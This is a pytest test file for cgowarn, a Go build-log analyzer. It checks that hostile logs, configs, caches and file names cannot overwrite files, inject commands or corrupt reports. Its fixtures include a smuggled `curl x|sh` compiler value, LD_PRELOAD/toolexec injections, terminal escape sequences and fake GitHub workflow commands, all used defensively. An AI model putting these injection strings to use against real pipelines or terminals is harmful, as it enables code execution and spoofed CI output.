"""What a hostile input or a careless option can no longer do: overwrite what cgowarn reads, write
into the user's Go module, change the answer through a cache, put a command a log chose into a
command the user pastes, break an XML report or a CI log, or end in a traceback.

(The token: tests/test_secrets.py; time: tests/test_linear_time.py, tests/test_run.py; the API
client: tests/test_comment.py; binaries: tests/test_hostile_elf.py; memory:
tests/test_bounded.py.)"""

from __future__ import annotations

import hashlib
import io
import os
import resource
import shlex
import shutil
import signal
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from cgowarn.cli import main
from cgowarn.errors import ExitCode, InputError
from cgowarn.formats import OutputFormat
from cgowarn.pipeline import analyze
from cgowarn.render import RenderOptions, render
from conftest import SAMPLES

LOG = SAMPLES / "seed-article-go-sqlite3-centos.log"
MSG = (
    "Using '{}' in statically linked applications requires at runtime the shared libraries from "
    "the glibc version used for linking"
)


def invoke(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> object:
    runner = CliRunner()
    if cwd is None:
        return runner.invoke(main, list(args), env=env)
    old = os.getcwd()
    os.chdir(cwd)
    try:
        return runner.invoke(main, list(args), env=env)
    finally:
        os.chdir(old)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- 2. inputs are never outputs ------------------------------------------------------------------


def _baseline(tmp_path: Path) -> Path:
    path = tmp_path / "b.json"
    result = invoke("baseline", "-o", str(path), str(LOG))
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    return path


VICTIMS = ["baseline", "config", "dotfile", "pyproject", "log", "binary", "step summary"]
CASES = [
    (command, victim)
    for command in ("analyze", "run", "comment", "baseline")
    for victim in VICTIMS
    # run reads no log (what the build reads is the build's business); baseline writes no job
    # summary, and recording a baseline over the old one is what `baseline -o` is for.
    if not (command == "run" and victim == "log")
    and not (command == "baseline" and victim in ("step summary", "baseline"))
]


@pytest.mark.parametrize(("command", "victim"), CASES)
def test_no_report_replaces_what_the_run_reads(tmp_path: Path, command: str, victim: str) -> None:
    work = tmp_path / "repo"
    work.mkdir()
    (work / ".git").mkdir()
    log = work / "build.log"
    shutil.copy(LOG, log)
    binary = work / "app"
    shutil.copy(sys.executable, binary)
    baseline = _baseline(work)
    config = work / "ci.toml"
    config.write_text('fail-on = "never"\n', encoding="utf-8")
    dotfile = work / ".cgowarn.toml"
    pyproject = work / "pyproject.toml"
    pyproject.write_text("[project]\nname = 'x'\n", encoding="utf-8")
    if victim == "dotfile":
        dotfile.write_text('fail-on = "never"\n', encoding="utf-8")
    target = {
        "baseline": baseline,
        "config": config,
        "dotfile": dotfile,
        "pyproject": pyproject,
        "log": log,
        "binary": binary,
        "step summary": config,
    }[victim]
    before = digest(target)
    args: list[str] = []
    if victim == "baseline" and command != "baseline":
        args += ["--baseline", str(baseline)]
    if victim in ("config", "step summary"):
        args += ["--config", str(config)]
    if victim == "binary":
        args += ["--binary", str(binary)]
    env = {"GITHUB_TOKEN": "", "NO_COLOR": "1"}
    out = str(work / "r.md") if victim == "step summary" else str(target)
    if victim == "step summary":
        args += ["--summary"]
        env["GITHUB_STEP_SUMMARY"] = str(config)
    if command == "run":
        argv = ["run", *args, "-o", out, "--", "cat", str(LOG)]
    elif command == "comment":
        argv = ["comment", "--dry-run", *args, "-o", out, str(log)]
    elif command == "baseline":
        argv = ["baseline", *args, "-o", out, str(log)]
    else:
        argv = [*args, "-o", out, str(log)]
    result = invoke(*argv, env=env, cwd=work)
    assert result.exit_code == ExitCode.USAGE, (argv, result.output)  # type: ignore[attr-defined]
    lines = result.stderr.strip().splitlines()  # type: ignore[attr-defined]
    assert len(lines) == 1 and lines[0].startswith("cgowarn: error: "), lines
    assert digest(target) == before


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user needs root")
def test_a_replaced_report_keeps_its_owner_and_mode(tmp_path: Path) -> None:
    out = tmp_path / "r.json"
    out.write_text("old", encoding="utf-8")
    os.chown(out, 4321, 4322)
    os.chmod(out, 0o640)
    result = invoke("-o", str(out), "--fail-on", "never", str(LOG))
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    st = out.stat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (4321, 4322, 0o640)
    assert out.read_text(encoding="utf-8").startswith("{")


def test_a_job_summary_that_cannot_be_written_whole_is_left_as_it_was(tmp_path: Path) -> None:
    """A full disk part way through the append (here: a file size limit, EFBIG): the summary
    file ends as it was, and the run says so with exit 3."""
    summary = tmp_path / "summary.md"
    summary.write_text("# an earlier step\n", encoding="utf-8")
    before = summary.read_bytes()

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (len(before) + 200, len(before) + 200))

    proc = subprocess.run(
        [sys.executable, "-m", "cgowarn", "--summary", "-o", "/dev/null", str(LOG)],
        env={**os.environ, "GITHUB_STEP_SUMMARY": str(summary)},
        capture_output=True,
        text=True,
        preexec_fn=limit,
        timeout=60,
    )
    assert proc.returncode == ExitCode.OUTPUT, proc.stderr
    assert "cannot append the summary" in proc.stderr
    assert summary.read_bytes() == before


# --- 2. --go-module reads the module and writes nothing -------------------------------------------


def _tree(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.mark.toolchain
@pytest.mark.parametrize("go_line", ["", "go 1.19\n"], ids=["no go line", "go line"])
def test_go_module_leaves_the_module_byte_identical(tmp_path: Path, go_line: str) -> None:
    go = shutil.which("go")
    if go is None:
        pytest.skip("needs the go tool")
    module = tmp_path / "app"
    module.mkdir()
    (module / "go.mod").write_text(f"module example.com/app\n{go_line}", encoding="utf-8")
    (module / "main.go").write_text(
        'package main\n\nimport (\n\t"fmt"\n\t"os/user"\n)\n\n'
        "func main() { u, _ := user.Current(); fmt.Println(u) }\n",
        encoding="utf-8",
    )
    before = _tree(module)
    env = {
        "GOFLAGS": "-mod=mod",  # what the user's environment may say: it must not apply
        "GOCACHE": str(tmp_path / "cache"),
        "GOPATH": str(tmp_path / "gopath"),
        "HOME": str(tmp_path),
    }
    result = invoke("--go-module", str(module), "--format", "json", str(LOG), env=env)
    assert result.exit_code in (0, 1), result.output  # type: ignore[attr-defined]
    assert _tree(module) == before
    assert '"os/user"' in result.stdout  # type: ignore[attr-defined]


# --- 3. no cache: nothing under ~/.cache is read --------------------------------------------------


def test_planted_cache_entries_are_never_read(tmp_path: Path) -> None:
    """Whatever a restored CI cache holds (forged entries, FIFOs that would block a reader),
    cgowarn prints exactly what it prints without one."""
    home = tmp_path / "home"
    cache = home / ".cache" / "cgowarn"
    cache.mkdir(parents=True)
    for name in ("knowledge-0.bin", "scan-all-0.bin", "template-0-0.bin"):
        os.mkfifo(cache / name)
    (cache / "knowledge-1.bin").write_bytes(b"cgowarn-cache\x00\x01\n" + os.urandom(4096))
    command = [sys.executable, "-m", "cgowarn", "--format", "markdown", str(LOG)]
    clean = subprocess.run(
        command,
        capture_output=True,
        timeout=60,
        env={**os.environ, "HOME": str(tmp_path / "empty"), "CGOWARN_NO_CACHE": "1"},
    )
    planted = subprocess.run(
        command,
        capture_output=True,
        timeout=60,
        env={**os.environ, "HOME": str(home), "CGOWARN_CACHE_DIR": str(cache)},
    )
    assert (planted.returncode, planted.stdout, planted.stderr) == (
        clean.returncode,
        clean.stdout,
        clean.stderr,
    )
    assert sorted(p.name for p in cache.iterdir()) == [
        "knowledge-0.bin",
        "knowledge-1.bin",
        "scan-all-0.bin",
        "template-0-0.bin",
    ]


# --- 9. nothing from a log is executed or interpreted downstream ---------------------------------


def test_a_command_from_the_log_keeps_only_what_the_fix_is_about() -> None:
    log = (
        "+ LD_PRELOAD=/tmp/evil.so BASH_ENV=/tmp/x PATH=/tmp:$PATH GOFLAGS=-toolexec=/tmp/x "
        "CC='gcc; curl x|sh' CGO_ENABLED=1 GOOS=linux CXX=g++ go build -ldflags "
        "'-linkmode external -extldflags \"-static\"' ./cmd/app\n"
        "/usr/bin/ld: /tmp/go-link-1/000007.o: in function `mygetpwnam_r':\n"
        f"/_/os/user/cgo_lookup_unix.go:32: warning: {MSG.format('getpwnam_r')}\n"
    )
    report = analyze([("build.log", io.BytesIO(log.encode()))])
    commands = [c for r in report.recommendations for c in r.commands]
    assert commands
    for text in [*commands, report.build.go_command or ""]:
        if " build " not in text:
            continue  # a `go list` check
        for bad in ("LD_PRELOAD", "BASH_ENV", "PATH=", "toolexec", "curl", "GOFLAGS"):
            assert bad not in text, text
        env = shlex.split(text.split(" go ", 1)[0])
        assert {word.split("=")[0] for word in env} <= {"CGO_ENABLED", "GOOS", "CXX", "CC"}, text
        assert "GOOS=linux" in env and "CXX=g++" in env, text
    (note,) = [n for n in report.notes if "also sets" in n]
    assert "LD_PRELOAD, BASH_ENV, PATH, GOFLAGS, CC" in note


HOSTILE_CHARACTERS = "\ufffe\uffff\u202e\x1b]52;c;aGk=\x07\x1b[2J\x00\x0b"


def _hostile_report() -> object:
    line = (
        f"/usr/bin/ld: /tmp/a{HOSTILE_CHARACTERS}b.o: in function `f{HOSTILE_CHARACTERS}':\n"
        f"x{HOSTILE_CHARACTERS}.c:1: warning: {MSG.format('getpwnam')}\n"
        f"/usr/bin/ld: cannot find -lz{HOSTILE_CHARACTERS}\n"
    )
    name = os.fsdecode(b"build\xff\xfe.log")  # not UTF-8: lone surrogates
    return analyze([(name, io.BytesIO(line.encode("utf-8", "surrogatepass")))])


def test_every_xml_output_is_well_formed_for_any_input() -> None:
    report = _hostile_report()
    text = render(report, OutputFormat.JUNIT, RenderOptions())  # type: ignore[arg-type]
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == "testsuites"
    for ch in ("\ufffe", "\uffff", "\x1b", "\u202e"):
        assert ch not in text


@pytest.mark.parametrize("fmt", list(OutputFormat))
def test_no_format_carries_a_control_or_bidi_character_or_a_surrogate(fmt: OutputFormat) -> None:
    report = _hostile_report()
    text = render(report, fmt, RenderOptions(details=True))  # type: ignore[arg-type]
    text.encode("utf-8")  # no lone surrogate
    for ch in ("\x1b", "\u202e", "\x07", "\x00", "\ufffe", "\uffff"):
        assert ch not in text, (fmt, repr(ch))


def test_no_report_line_can_be_taken_for_a_workflow_command() -> None:
    log = (
        "/usr/bin/ld: ::add-mask::x.o: in function `::set-output name=a::b':\n"
        f"::stop-commands::tok.c:1: warning: {MSG.format('getpwnam')}\n"
        "##[error]/usr/bin/ld: cannot find -lz\n"
    )
    report = analyze([("::error::x.log", io.BytesIO(log.encode()))])
    for fmt in OutputFormat:
        if fmt is OutputFormat.GITHUB:
            continue
        text = render(report, fmt, RenderOptions(details=True))
        for line in text.splitlines():
            assert not line.lstrip().startswith("::"), (fmt, line)
            assert "##[" not in line, (fmt, line)
    # GitHub's own format: every line is one of cgowarn's commands; what a log holds is their
    # data, after the command's own `::`.
    github = render(report, OutputFormat.GITHUB, RenderOptions())
    for line in github.splitlines():
        assert line.split(" ", 1)[0].split("::")[1] in ("error", "warning", "notice"), line


def test_error_lines_escape_control_characters_and_are_capped(tmp_path: Path) -> None:
    missing = str(tmp_path / f"no{HOSTILE_CHARACTERS}such.log")
    result = invoke(missing)
    assert result.exit_code == ExitCode.USAGE  # type: ignore[attr-defined]
    err = result.stderr  # type: ignore[attr-defined]
    assert "\x1b" not in err and "\u202e" not in err and "<U+001B>" in err
    config = tmp_path / "c.toml"
    config.write_text(f'fail-on = "{"x" * 5_000_000}"\n', encoding="utf-8")
    result = invoke("--config", str(config), str(LOG))
    assert result.exit_code == ExitCode.USAGE  # type: ignore[attr-defined]
    assert len(result.stderr) < 1200  # type: ignore[attr-defined]


# --- 10. every bad input is one line and a documented code ----------------------------------------


def _one_line(result: object, code: ExitCode) -> str:
    assert result.exit_code == code, result.output  # type: ignore[attr-defined]
    lines = result.stderr.strip().splitlines()  # type: ignore[attr-defined]
    assert len(lines) == 1 and lines[0].startswith("cgowarn: error: "), lines
    return str(lines[0])


@pytest.mark.parametrize("where", ["--config", "discovered"])
def test_deeply_nested_toml_is_a_config_error(tmp_path: Path, where: str) -> None:
    (tmp_path / ".git").mkdir()
    path = tmp_path / (".cgowarn.toml" if where == "discovered" else "c.toml")
    path.write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
    args = ["--config", str(path)] if where == "--config" else []
    line = _one_line(invoke(*args, str(LOG), cwd=tmp_path), ExitCode.USAGE)
    assert "nested too deeply" in line


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000 + "]" * 100_000, '{"cgowarn_baseline": ' + "9" * 100_000 + "}"],
    ids=["deeply nested", "huge integer"],
)
def test_a_hostile_baseline_is_a_baseline_error(tmp_path: Path, text: str) -> None:
    path = tmp_path / "b.json"
    path.write_text(text, encoding="utf-8")
    line = _one_line(invoke("--baseline", str(path), str(LOG)), ExitCode.USAGE)
    assert "the baseline" in line


def test_a_deeply_nested_event_file_is_a_usage_error(tmp_path: Path) -> None:
    event = tmp_path / "event.json"
    event.write_text('{"pull_request": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    env = {"GITHUB_EVENT_PATH": str(event), "GITHUB_TOKEN": "ghp_" + "x" * 36}
    line = _one_line(invoke("comment", "--repo", "a/b", str(LOG), env=env), ExitCode.USAGE)
    assert "nested too deeply" in line


@pytest.mark.parametrize("fmt", list(OutputFormat))
def test_a_log_whose_name_is_not_utf8_reports_in_every_format(
    tmp_path: Path, fmt: OutputFormat
) -> None:
    name = os.fsdecode(bytes(tmp_path) + b"/build\xff\xfe.log")
    shutil.copy(LOG, name)
    result = invoke("--format", fmt.value, "--fail-on", "never", name)
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    out = result.stdout  # type: ignore[attr-defined]
    out.encode("utf-8")
    shown = "build\\xff\\xfe.log"
    assert (
        shown in out
        or shown.replace("\\", "\\\\") in out
        or fmt
        in (
            OutputFormat.GITHUB,
            OutputFormat.GITLAB,
            OutputFormat.RDJSONL,
            OutputFormat.SARIF,
            OutputFormat.TEXT,  # the short text report names no log
        )
    )


class _FailsMidway(io.RawIOBase):
    """A log whose reading fails after its first bytes (a disk error, a network file system)."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        self.sent = False

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
        if self.sent:
            raise OSError(5, "Input/output error")
        self.sent = True
        n = min(len(buffer), len(self.data))
        buffer[:n] = self.data[:n]
        return n


def test_a_read_error_in_the_middle_of_a_log_is_an_input_error() -> None:
    stream: Any = _FailsMidway(LOG.read_bytes()[:500])
    with pytest.raises(InputError, match="Input/output error"):
        analyze([("build.log", stream)])
    stdin: Any = _FailsMidway(LOG.read_bytes()[:500])
    result = CliRunner().invoke(main, ["-"], input=stdin)
    line = _one_line(result, ExitCode.USAGE)
    assert "cannot read <stdin>: Input/output error" in line


def test_pass_through_to_a_full_disk_is_an_output_error() -> None:
    with open("/dev/full", "wb") as full:
        proc = subprocess.run(
            [sys.executable, "-m", "cgowarn", "-p", str(LOG)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
        )
    assert proc.returncode == ExitCode.OUTPUT
    assert proc.stderr.strip().splitlines() == [
        "cgowarn: error: cannot write to standard output: No space left on device (--pass-through)"
    ]


def test_pass_through_keeps_every_byte_when_the_analysis_fails(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An analysis that fails part way (here, a bug): the rest of the piped build output still
    reaches standard output."""
    from cgowarn import fold

    data = LOG.read_bytes() * 3
    original = fold.Folder._warning
    calls = []

    def broken(self: object, *args: object) -> None:
        calls.append(1)
        if len(calls) > 3:
            raise RuntimeError("a bug")
        original(self, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(fold.Folder, "_warning", broken)
    result = CliRunner().invoke(main, ["-p", "-o", "/dev/null", "-"], input=data)
    assert result.exit_code == ExitCode.INTERNAL
    assert result.stdout_bytes == data
